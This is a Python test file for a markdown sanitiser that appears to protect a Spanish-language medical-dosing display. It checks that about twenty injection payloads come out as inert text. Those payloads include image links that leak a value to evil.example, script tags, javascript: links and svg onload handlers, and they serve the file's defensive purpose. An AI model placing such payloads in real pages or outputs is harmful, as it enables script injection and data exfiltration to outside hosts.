import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from space.markdown import inert, shown

PAYLOADS = [
    "![x](http://evil.example/?q=secreto)",
    '<img src="http://evil.example/a.png">',
    "<form action='http://evil.example'><input name=q></form>",
    '<div style="position:fixed;inset:0">tapado</div>',
    "<script>alert(1)</script>",
    "[pulse](javascript:alert(1))",
    "[pulse](http://evil.example)",
    "![x][ref]\n\n[ref]: http://evil.example/b.png",
    "[ref]: http://evil.example/b.png\n[ref]",
    "http://evil.example/auto y www.evil.example y nadie@evil.example",
    "<http://evil.example/angulo>",
    "\\![x](http://evil.example/c.png)",
    "\\\\[x](http://evil.example/d)",
    "`código` y ```\n<img src=http://evil.example/e>\n```",
    "    <img src=http://evil.example/f>",
    "\t![x](http://evil.example/g)",
    "$$\\href{http://evil.example}{x}$$",
    "&lt;img src=http://evil.example/h&gt;",
    "<iframe src=data:text/html,hola></iframe>",
    "<svg onload=alert(1)>",
    "~~~\n![x](http://evil.example/i)\n~~~",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_a_link_an_image_or_a_tag(payload: str) -> None:
    """Rendered with links, autolinks and raw HTML on: only plain text tags may come out."""
    html = MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(inert(payload))
    assert set(re.findall(r"<(\w+)", html)) <= {"p", "br", "em", "strong", "h1", "h2", "ul", "ol", "li"}
    assert "://" not in inert(payload)


def test_bold_lists_headings_and_citations_still_work() -> None:
    html = MarkdownIt("gfm-like", {"linkify": False}).render(
        inert("## Dosis\n\n**500 mg** cada 8 h [1]\n\n- una\n- dos")
    )
    for part in ("<h2>Dosis</h2>", "<strong>500 mg</strong>", "[1]", "<li>una</li>"):
        assert part in html


def test_a_dose_reads_on_the_page_as_it_was_written() -> None:
    text = "Si TFGe < 30 mL/min/1,73 m² & edad > 65: 2,5 mg [2] «no \\ exceda»"
    assert shown(inert(text)) == text


@given(st.text(alphabet="ab \\[]`~$<>&!@:/.()*#1,5\n\t"))
def test_nothing_of_a_text_is_lost_on_the_page(text: str) -> None:
    assert shown(inert(text)) == text
